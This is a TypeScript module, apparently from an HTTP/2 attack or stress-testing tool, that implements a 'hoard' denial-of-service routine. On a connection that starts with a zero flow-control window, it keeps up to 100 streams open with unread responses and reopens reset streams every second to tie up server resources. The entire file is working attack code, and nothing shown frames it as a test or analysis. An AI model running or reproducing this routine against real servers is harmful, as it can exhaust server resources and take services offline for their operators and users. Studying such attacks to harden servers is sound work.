import type { Attacker } from '../attacker.js';
import type { Field } from '../wire/hpack-encoder.js';
import type { RawHttp2 } from '../wire/raw-http2.js';

const REFILL_MS = 1000;
/** Stays the same even if the server allows more for the sake of another attack. */
const STREAMS = 100;

/**
 * Keeps as many streams open as the server allows, up to 100, each with an unread response. Streams that the server resets are replaced
 * once a second. The connection must start with a window of zero.
 */
export async function hoard(attacker: Attacker, connection: RawHttp2, fields: readonly Field[]): Promise<void> {
  let opened = 0;
  while (!connection.isOver && !attacker.isOver) {
    const missing = Math.min(STREAMS, connection.maxStreams) - (opened - connection.resets);
    const frames = Array.from({ length: Math.max(0, missing) }, () => connection.headers(connection.nextStream(), fields));
    opened += frames.length;
    await connection.send(...frames);
    await attacker.pause(REFILL_MS);
  }
  attacker.note('answers begun', connection.answers);
  attacker.note('streams reset', connection.resets);
}
